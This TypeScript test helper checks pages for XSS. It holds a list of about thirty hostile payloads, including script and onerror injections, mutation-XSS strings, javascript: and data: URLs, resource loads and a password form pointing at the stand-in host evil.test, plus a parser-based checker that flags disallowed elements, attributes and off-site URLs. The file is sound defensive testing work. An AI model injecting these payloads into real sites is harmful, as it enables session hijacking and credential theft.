// Hostile texts, and the judge of pages that show them: what a parser finds there that must not be there.
// Imported by test/browser/xss.test.ts.

import { parse, type DefaultTreeAdapterMap } from "parse5";

/** Every way known to us in which text becomes a program, a form or a request (docs/threats.md, XSS rows). */
export const HOSTILE: readonly string[] = [
  "<script>alert(1)</script>",
  "<scr\0ipt>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<details open ontoggle=alert(1)>x</details>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<svg><textarea><img src=x onerror=alert(1)></textarea></svg>",
  "<math><xmp><img src=x onerror=alert(1)></xmp></math><xmp><img src=x onerror=alert(1)></xmp>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<title><img src=x onerror=alert(1)></title><noembed><img src=x onerror=alert(1)></noembed>",
  "<template><img src=x onerror=alert(1)></template>",
  "<!--><img src=x onerror=alert(1)>--><![CDATA[<img src=x onerror=alert(1)>]]><?xml ?><img src=x onerror=alert(1)>",
  '<a href="javascript:alert(1)">a</a><a href=" JaVaScRiPt:alert(1)">b</a><a href="java&#x09;script:alert(1)">c</a>',
  '<a href="&#106;avascript:alert(1)">d</a><a href="&#x1;javascript:alert(1)">e</a><a href="javascript&colon;alert(1)">f</a>',
  '<a href="data:text/html,<script>alert(1)</script>">g</a><a href="vbscript:x">h</a>',
  '<a href="//evil.test/">i</a><a href="/\\evil.test">j</a><a href="/settings/delete">k</a><a href="?x=1">l</a><a href="#csrf">m</a>',
  '<a href="https://good.example@evil.test/">n</a>',
  '<img srcset="https://evil.test/1.png 1x" src="https://evil.test/2.png"><picture><source srcset="https://evil.test/3.png"></picture>',
  '<video poster="https://evil.test/4.png" src="https://evil.test/5.mp4" autoplay></video><audio src="https://evil.test/6.mp3" autoplay></audio>',
  '<link rel=stylesheet href="https://evil.test/7.css"><style>@import "https://evil.test/8.css";</style><object data="https://evil.test/9"></object>',
  '<iframe src="https://evil.test/10"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><embed src="https://evil.test/11">',
  '<p style="background:url(https://evil.test/12.png);position:fixed;inset:0">over</p>',
  '<meta http-equiv=refresh content="0;url=https://evil.test/13"><base href="https://evil.test/">',
  '<form action="https://evil.test/14"><input name=password><button>go</button></form>',
  '<p id=csrf>x</p><a id=main name=body href="https://example.org">y</a><p data-x=1 is=x slot=y hx-get="/x" x-data="alert(1)">z</p>',
  "</div></article></main></body></html><p>after the end</p><h1>Another title</h1>",
  `<a href="https://example.org"><a href="https://example.org/2">nested<p>unclosed<b><i>`,
  "</textarea></title></script></style><script>alert(1)</script>",
  '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
  "' onmouseover='alert(1)' `${alert(1)}` {{constructor.constructor('alert(1)')()}}",
  "]]><script>alert(1)</script>",
  "\u202Egnp.exe\u202C \u200B\u2066x\u2069",
];
/** Elements that our pages are made of. */
export const ALLOWED = new Set(
  `html head meta title link body div span p a h1 h2 h3 h4 h5 h6 header footer main nav section article aside ul ol li dl dt dd
  form input button select option textarea label fieldset legend details summary figure img svg use path circle rect g video audio
  time bdi strong em b i u s del ins code pre blockquote br hr small search meter ruby rt rp sub sup table thead tbody tr th td
  picture source track progress`.split(/\s+/),
);

type Node = DefaultTreeAdapterMap["node"];
type Element = DefaultTreeAdapterMap["element"];

/** All elements of a tree. */
export function elementsOf(node: Node): readonly Element[] {
  const children = "childNodes" in node ? node.childNodes.flatMap(elementsOf) : [];
  return "tagName" in node ? [node, ...children] : children;
}

/** What a parser finds in a page that must not be there. */
export function strangers(text: string): readonly string[] {
  const elements = elementsOf(parse(text));
  const found: string[] = [];
  const count = (name: string) => elements.filter(({ tagName }) => tagName === name).length;
  for (const name of ["main", "h1", "title", "body"])
    if (count(name) !== 1) found.push(`${count(name)} <${name}>`);
  const footer = elements.find(
    ({ tagName, attrs }) => tagName === "footer" && attrs.some(({ value }) => value === "foot"),
  );
  const holder = footer?.parentNode;
  if (
    holder === null ||
    holder === undefined ||
    !("attrs" in holder) ||
    !holder.attrs.some(({ value }) => /^(?:shell|side)\b/.test(value))
  )
    found.push("the foot is out of its place");
  for (const element of elements) {
    const { tagName, attrs } = element;
    if (!ALLOWED.has(tagName) && !isOurScript(element) && !isPlainNoscript(element))
      found.push(`<${tagName}>`);
    for (const { name, value } of attrs) {
      if (/^on|^style$|^srcdoc$|^formaction$|^ping$|^background$|^hx-|^x-|^is$|^slot$/.test(name))
        found.push(`${tagName} ${name}`);
      // Sizes of a picture: all of them files of ours, or through our proxy.
      if (
        name === "srcset" &&
        !value.split(",").every((one) => /^\s*\/(?:media|proxy)\/[\w./?=-]+ \d+w$/.test(one))
      )
        found.push(`${tagName} srcset=${value}`);
      if (["href", "src", "action", "poster", "data"].includes(name) && !isOurs(tagName, value))
        found.push(`${tagName} ${name}=${value}`);
    }
  }
  return found;
}

/** Our one module, and data blocks, which are never run and hold nothing but JSON. */
function isOurScript({ tagName, attrs, childNodes }: Element): boolean {
  if (tagName !== "script") return false;
  const of = (name: string) => attrs.find((one) => one.name === name)?.value ?? "";
  const text = childNodes.map((child) => ("value" in child ? child.value : "")).join("");
  if (of("type") === "module") return of("src").startsWith("/static/scripts-") && text === "";
  if (of("type") !== "application/ld+json" || attrs.length !== 1 || text.includes("<")) return false;
  return typeof JSON.parse(text) === "object";
}

/** Links may lead anywhere on the web; whatever is loaded or sent stays here. */
function isOurs(tagName: string, value: string): boolean {
  if (tagName === "a")
    return /^(?:https?:\/\/|\/(?![/\\])|#|mailto:harbour@)/.test(value) && !/^https?:\/\/[^/]*@/.test(value);
  if (tagName === "link") return /^(?:\/static\/|\/icons\/|\/manifest\.webmanifest$|http)/.test(value);
  return /^\/(?![/\\])|^#/.test(value);
}

/** A sentence for browsers without scripts; parsers read it as text where scripts run, so it may hold nothing else. */
function isPlainNoscript({ tagName, attrs, childNodes }: Element): boolean {
  const text = childNodes.map((child) => ("value" in child ? child.value : "")).join("");
  return tagName === "noscript" && attrs.length === 0 && /^<p class="notice">[^<>]*<\/p>$/.test(text);
}
